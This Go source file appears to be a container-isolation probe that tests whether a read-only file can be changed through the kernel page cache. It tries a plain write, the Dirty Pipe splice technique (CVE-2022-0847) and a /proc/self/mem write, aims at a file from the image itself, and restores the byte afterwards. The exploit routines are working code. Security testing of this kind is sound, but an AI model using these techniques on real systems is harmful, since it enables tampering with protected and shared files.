package main

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"unsafe"
)

// Writing to files that may only be read, by way of the pages in which the kernel keeps them: such a write shows in
// every container that has the file, and on no disk.

type pageCacheArguments struct {
	// Own is to take a file of the probe's own, which may be written: a control.
	Own bool `json:"own"`
}

// cacheWriter changes the byte of an open file at `offset` to `value`, or says why it cannot.
type cacheWriter struct {
	name  string
	write func(path string, file *os.File, offset int64, value byte) error
}

var cacheWriters = []cacheWriter{
	{"write", plainWrite},
	{"splice into a pipe (CVE-2022-0847)", spliceWrite},
	{"/proc/self/mem over a private mapping (CVE-2016-5195)", memoryWrite},
}

// pageCacheWrite counts what the file holds afterwards, whatever the calls have answered.
func pageCacheWrite(arguments pageCacheArguments) Result {
	path, err := readableFile()
	if arguments.Own {
		path, err = ownFile()
		defer os.Remove(path)
	}
	if err != nil {
		return impossible("%v", err)
	}
	file, err := os.Open(path)
	if err != nil {
		return impossible("open(O_RDONLY): %v", err)
	}
	defer file.Close()
	var answers []string
	const offset = 1 // Splicing takes the byte before it along.
	before := [1]byte{}
	if _, err := file.ReadAt(before[:], offset); err != nil {
		return impossible("%s: %v", path, err)
	}
	for _, writer := range cacheWriters {
		answer := writer.write(path, file, offset, before[0]^1)
		after := [1]byte{}
		if _, err := file.ReadAt(after[:], offset); err != nil {
			return impossible("%s: %v", path, err)
		}
		if after != before {
			undone := writer.write(path, file, offset, before[0])
			return allowed("changed a byte of %s by %s", path, writer.name).undone(undone)
		}
		answers = append(answers, fmt.Sprintf("%s: %v", writer.name, answer))
	}
	return refused("page cache", "UNCHANGED", "%s; %s", path, strings.Join(answers, "; "))
}

func plainWrite(path string, _ *os.File, offset int64, value byte) error {
	file, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = file.WriteAt([]byte{value}, offset)
	return err
}

const pipeSize = 64 * 1024

// spliceWrite relies on flags that a pipe has kept of what was in it before.
func spliceWrite(_ string, file *os.File, offset int64, value byte) error {
	var ends [2]int
	if err := syscall.Pipe2(ends[:], syscall.O_CLOEXEC|syscall.O_NONBLOCK); err != nil {
		return err
	}
	defer syscall.Close(ends[0])
	defer syscall.Close(ends[1])
	filling := make([]byte, pipeSize)
	written, err := syscall.Write(ends[1], filling)
	if err != nil {
		return err
	}
	for drained := 0; drained < written; {
		count, err := syscall.Read(ends[0], filling)
		if err != nil {
			return err
		}
		drained += count
	}
	from := offset - 1
	if _, err := syscall.Splice(int(file.Fd()), &from, ends[1], nil, 1, 0); err != nil {
		return err
	}
	_, err = syscall.Write(ends[1], []byte{value})
	return err
}

// memoryWrite writes past the protection of a mapping, which the kernel must answer with a copy of the page.
func memoryWrite(_ string, file *os.File, offset int64, value byte) error {
	page, err := syscall.Mmap(int(file.Fd()), 0, int(offset)+1, syscall.PROT_READ, syscall.MAP_PRIVATE)
	if err != nil {
		return err
	}
	defer syscall.Munmap(page)
	memory, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer memory.Close()
	_, err = memory.WriteAt([]byte{value}, int64(uintptr(unsafe.Pointer(&page[offset]))))
	return err
}

// readableFile is the first file that lies in the image, and that no process runs: its pages are what is attacked.
func readableFile() (string, error) {
	found := ""
	filepath.WalkDir("/", func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if entry.IsDir() && (path == "/proc" || path == "/sys" || path == "/dev" || path == "/run" || path == "/tmp") {
			return fs.SkipDir
		}
		if !entry.Type().IsRegular() {
			return nil
		}
		if found == "" {
			found = path
		}
		file, err := os.OpenFile(path, os.O_RDWR, 0)
		if err == nil {
			file.Close()
		}
		if busy := isErrno(err, syscall.ETXTBSY); !busy {
			found = path
			return fs.SkipAll
		}
		return nil
	})
	if found == "" {
		return "", fmt.Errorf("there is no file to attack")
	}
	return found, nil
}

func ownFile() (string, error) {
	var last error
	for _, folder := range scratchFolders {
		path := filepath.Join(folder, own())
		if last = os.WriteFile(path, []byte("drydock"), 0o600); last == nil {
			return path, nil
		}
	}
	return "", last
}
